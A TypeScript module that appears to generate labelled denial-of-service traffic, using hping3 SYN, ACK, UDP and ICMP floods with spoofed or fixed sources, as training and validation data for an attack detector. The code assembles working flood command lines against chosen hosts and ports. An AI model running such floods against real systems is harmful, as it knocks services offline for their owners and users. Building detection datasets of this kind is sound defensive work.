/** Floods by hping3: SYN, ACK, UDP, ICMP; from one address and from random ones; at several rates. */
import type { Service } from '../site-plan.ts';
import { type AttackFamily, type AttackStep, between } from './attack-step.ts';

interface Flood {
  readonly kind: 'syn' | 'ack' | 'udp' | 'icmp';
  /** Microseconds between packets. */
  readonly gap: number;
  readonly isSpoofed?: boolean;
  readonly bytes?: number;
  readonly seconds?: number;
  readonly service?: Service;
  readonly count?: number;
}
const flags = { syn: ['-S'], ack: ['-A'], udp: ['--udp'], icmp: ['--icmp'] } as const;
const protocols = { syn: 6, ack: 6, udp: 17, icmp: 1 } as const;
const ports = { web: 80, ssh: 22, mqtt: 1883, ftp: 21 } as const;

const flood = ({
  kind,
  gap,
  isSpoofed = false,
  bytes = 0,
  seconds = 10,
  service = 'web',
  count = 12_000,
}: Flood): AttackStep => ({
  name: `hping3 ${kind}${isSpoofed ? ' --rand-source' : ''} -i u${gap} -d ${bytes} -c ${count} ${service}`,
  class: 'ddos_flood',
  seconds,
  command: ({ site, random, attacker }) => {
    const victim = random.pick(site.serving(service)).address;
    const port = kind === 'udp' ? random.pick([53, 123, 5000, 9999]) : ports[service];
    const argv = ['hping3', '-q', '-n', ...flags[kind], '-i', `u${gap}`, '-c', String(count), '-d', String(bytes)];
    if (kind !== 'icmp') argv.push('-p', String(port));
    if (isSpoofed) argv.push('--rand-source');
    const spoofed = {
      src_ip: null,
      dst_ip: victim,
      protocol: protocols[kind],
      dst_port: kind === 'icmp' ? null : port,
      except: site.honestAddresses(),
    };
    const truth = isSpoofed ? [spoofed] : [between(attacker.address, null)];
    // the victim's answers that say "unreachable" belong to the flood as well
    const echoes = isSpoofed && kind === 'udp' ? [{ ...spoofed, protocol: 1, dst_port: null }] : [];
    return { from: attacker, argv: [...argv, victim], truth: [...truth, ...echoes] };
  },
});

export const floods: AttackFamily = {
  name: 'flood',
  description: 'hping3: SYN, ACK, UDP and ICMP floods, fixed and random sources, several rates',
  steps: {
    train: [
      flood({ kind: 'syn', gap: 1000 }),
      flood({ kind: 'syn', gap: 400, isSpoofed: true }),
      flood({ kind: 'syn', gap: 4000, isSpoofed: true, service: 'ssh' }),
      flood({ kind: 'syn', gap: 150, service: 'mqtt', seconds: 6 }),
      flood({ kind: 'syn', gap: 2000, bytes: 120 }),
      flood({ kind: 'ack', gap: 800 }),
      flood({ kind: 'ack', gap: 1500, isSpoofed: true }),
      flood({ kind: 'udp', gap: 500, bytes: 512 }),
      flood({ kind: 'udp', gap: 1500, bytes: 64, isSpoofed: true }),
      flood({ kind: 'udp', gap: 3000, bytes: 1200 }),
      flood({ kind: 'icmp', gap: 500, bytes: 56 }),
      flood({ kind: 'icmp', gap: 2000, bytes: 1000 }),
      flood({ kind: 'icmp', gap: 1000, bytes: 32, isSpoofed: true }),
    ],
    validation: [
      flood({ kind: 'syn', gap: 600 }),
      flood({ kind: 'syn', gap: 1200, isSpoofed: true }),
      flood({ kind: 'syn', gap: 250, isSpoofed: true, service: 'ftp', seconds: 6 }),
      flood({ kind: 'ack', gap: 2500, bytes: 40 }),
      flood({ kind: 'udp', gap: 900, bytes: 256, isSpoofed: true }),
      flood({ kind: 'udp', gap: 2000, bytes: 700 }),
      flood({ kind: 'icmp', gap: 800, bytes: 400 }),
    ],
    demo: [flood({ kind: 'syn', gap: 5000, count: 1600, seconds: 9 })],
  },
};
